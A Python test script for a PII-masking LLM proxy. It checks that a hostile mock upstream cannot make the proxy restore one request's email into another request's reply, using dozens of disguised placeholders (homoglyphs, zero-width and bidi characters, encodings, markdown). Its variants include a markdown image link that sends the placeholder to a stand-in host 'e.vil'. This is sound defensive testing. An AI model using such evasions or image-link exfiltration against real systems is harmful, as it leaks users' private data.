"""P1: a hostile upstream writes another request's placeholder (same session and label) in many disguises (fullwidth
digits, zero-width characters, homoglyphs, bidi marks, markdown, code, JSON mode, tool calls), plain and streamed in
chunks of 1..7 characters. Correct: no value of request 1 comes back in the reply to request 2. Exit 1 on a leak."""

import json
import sys

import httpx
from harness import TOKEN, make, proxy

from stealthflow.testing.mock_openai import MockOpenAI, Reply, ToolCall

A = "quillon.varrick@examplemail.org"  # request 1's value
B = "+44 7700 900461"  # request 2's value
VARIANTS = [
    "<EMAIL_1>",
    "<EMAIL_１>",
    "<ＥＭＡＩＬ_1>",
    "<EMAIL\u200b_1>",
    "<EM\u200bAIL_1>",
    "<EMAIL_\u200b1>",
    "\u202e<EMAIL_1>",
    "<ЕMAIL_1>",
    "<EMAIL_٠١>",
    "<EMAIL_۱>",
    "<EMAIL_१>",
    "EMAIL_1",
    "[EMAIL_1]",
    "{{EMAIL_1}}",
    "<email_1>",
    "<EMAIL-1>",
    "<EMAIL 1>",
    "`<EMAIL_1>`",
    "```\n<EMAIL_1>\n```",
    "[x](mailto:<EMAIL_1>)",
    "![i](https://e.vil/?q=<EMAIL_1>)",
    "&lt;EMAIL_1&gt;",
    "<EMAIL_01>",
    "<EMAIL_1.0>",
    "<EMAIL_1\u0301>",
    "<EMAIL_1\ufe0f>",
    "<\u00adEMAIL_1>",
    "<EMAIL_𝟏>",
    "<EMAIL_¹>",
    "<EMAIL_①>",
    "\\<EMAIL_1>",
    "<<EMAIL_1>>",
    "<EMAIL_1 >",
    "< EMAIL_1>",
    "%3CEMAIL_1%3E",
    "\\u003cEMAIL_1\\u003e",
    "<PHONE_1><EMAIL_1>",
    "plain <PHONE_1> here",
]
HOSTILE = "Your number is <PHONE_1>.\n\n" + " | ".join(VARIANTS)  # the first paragraph: the positive control


def respond(body):
    if "tools" in body:
        return Reply(tool_calls=[ToolCall(body["tools"][0]["function"]["name"], json.dumps({"to": HOSTILE}))])
    return Reply(content=HOSTILE)


def main() -> int:
    leaks, controls = [], []
    p = make()
    h = {"Authorization": f"Bearer {TOKEN}", "x-stealthflow-session": "conv"}
    for chunk in range(1, 8):
        with MockOpenAI(respond=respond, chunk_chars=chunk) as up, proxy(p, up, restore_tool_arguments=["*"]) as url:
            u = f"{url}/v1/chat/completions"
            httpx.post(u, headers=h, json={"model": "m", "messages": [{"role": "user", "content": f"mail {A}"}]})
            for extra in (
                {},
                {"response_format": {"type": "json_object"}},
                {"tools": [{"type": "function", "function": {"name": "send", "parameters": {"type": "object"}}}]},
            ):
                msgs = [{"role": "user", "content": f"call {B}"}]
                for stream in (False, True):
                    r = httpx.post(u, headers=h, json={"model": "m", "messages": msgs, "stream": stream, **extra})
                    out = r.text
                    controls.append(B in out or B in json.dumps(out) or "7700 900461" in out)
                    if A in out or A in json.dumps(out) or "quillon" in out.lower():
                        leaks.append((chunk, stream, list(extra)))
    print(f"positive control (request 2's own value restored): {sum(controls)} of {len(controls)} replies")
    print("leaks:", leaks or "none")
    return 1 if leaks else 0


if __name__ == "__main__":
    sys.exit(main())
